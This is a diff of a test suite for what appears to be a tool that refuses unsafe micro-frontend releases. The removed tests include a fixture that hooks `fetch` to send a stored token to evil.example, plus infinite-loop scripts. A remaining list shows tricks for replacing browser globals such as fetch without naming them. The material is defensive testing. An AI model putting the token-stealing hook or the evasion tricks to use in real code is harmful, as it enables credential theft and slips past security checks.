@@ -61,10 +61,7 @@ it('refuses a release that fails for signed-in shoppers only, and one that fails
   });
 });
 
-/** Of `performance.now()`: on a busy machine 1.5 seconds can pass with little time of a processor. */
-const callsOfASecond = 6_000_000;
-
-it('refuses a page that is not ready, blocks the main thread, moves its content, or keeps people out', async () => {
+it('refuses a page that is not ready, moves its content, or keeps people out', async () => {
   const bad = `
     self.mfe_page = (node) => {
       const button = node.appendChild(document.createElement('button'));
@@ -74,44 +71,22 @@ it('refuses a page that is not ready, blocks the main thread, moves its content,
       node.ariaBusy = 'true';
       node.append(Object.assign(document.createElement('p'), { ariaBusy: 'true' }));
       setTimeout(() => { button.className = 'tall'; }, 200);
-      setTimeout(() => {
-        const end = performance.now() + 1_500;
-        for (let calls = 0; performance.now() < end || calls < ${callsOfASecond}; calls += 1);
-      }, 400);
     }`;
   expect(await shop.judge(remote(bad, '[data-remote="catalog"] .tall{display:block;height:300px}'))).toEqual({
     ready: expect.stringContaining('/home (answers as they are): not ready after 1.5 s'),
-    blocking: expect.stringMatching(/the main thread was blocked for \d+ ms \(\d+ ms in remoteEntry\.js\)/),
     'layout-shift': expect.stringMatching(/content moved by 0\.\d+: .*p#moved/),
     accessibility: '/home (answers as they are): button-name at button',
   });
 });
 
-it('refuses a page whose script never ends, at once or in a task that waits for the clock, and comes to an end itself', async () => {
-  const hangMs = 1_000;
-  const never = 'for (;;);';
-  const eightSeconds = 'for (const end = performance.now() + 8_000; performance.now() < end; );';
-  for (const code of [never, `setTimeout(() => { ${eightSeconds} }, 6 * 60_000);`])
-    expect(await shop.judge(remote(`self.mfe_page = () => { ${code} }`), shop.step({ hangMs }))).toMatchObject({
-      blocking: expect.stringContaining('the main thread was blocked for over 1 s'),
-    });
-});
-
-it('refuses what a release does minutes later', async () => {
-  const late = (code: string) =>
-    shop.judge(remote(`self.mfe_page = () => { setTimeout(() => { ${code} }, 4 * 60_000); }`));
-  const thief = `const { fetch } = self;
-    self.fetch = (...call) => { new Image().src = 'https://evil.example/?' + localStorage.getItem('token'); return fetch(...call); };
-    self.fetch('/api/front/user/info');`;
-  const found = (await late(thief)) as Record<string, string>;
-  expect(found).toEqual({
-    isolation: expect.stringContaining('it changes fetch'),
-    browser: expect.stringMatching(/policy: img-src https:\/\/evil\.example/),
+it('refuses a page whose script never ends, and comes to an end itself', async () => {
+  const step = shop.step({ visitMs: 5_000 });
+  expect(await shop.judge(remote('self.mfe_page = () => { for (;;); }'), step)).toEqual({
+    ready: expect.stringContaining('its visit did not end within 5 s'),
   });
-  expect(await late('throw new Error("late")')).toEqual({ browser: expect.stringContaining('error: late') });
 });
 
-/** Reading the files finds none of these (platform/releases/src/isolation): the object comes by a way that it does not follow. */
+/** Ways to reach an object of the document without its name. */
 const tricks = [
   ['((set) => set(self))(function (all) { all.fetch = () => {}; })', 'fetch'],
   ['(function () { return this; })().alert = () => {}', 'alert'],
@@ -130,7 +105,7 @@ const tricks = [
   ['Array.from([self], (all) => { all.trustedTypes.createPolicy = () => {}; })', 'trustedTypes.createPolicy'],
 ];
 
-it('refuses what is replaced in ways that reading the files does not find', async () => {
+it('refuses what is replaced by a way that does not name it', async () => {
   const code = tricks.map(([trick]) => `${trick};`).join('\n');
   const { isolation } = (await shop.judge(remote(`self.mfe_page = (node) => { ${code} }`))) as Record<string, string>;
   for (const [, name] of tricks) expect(isolation).toContain(`it changes ${name}`);
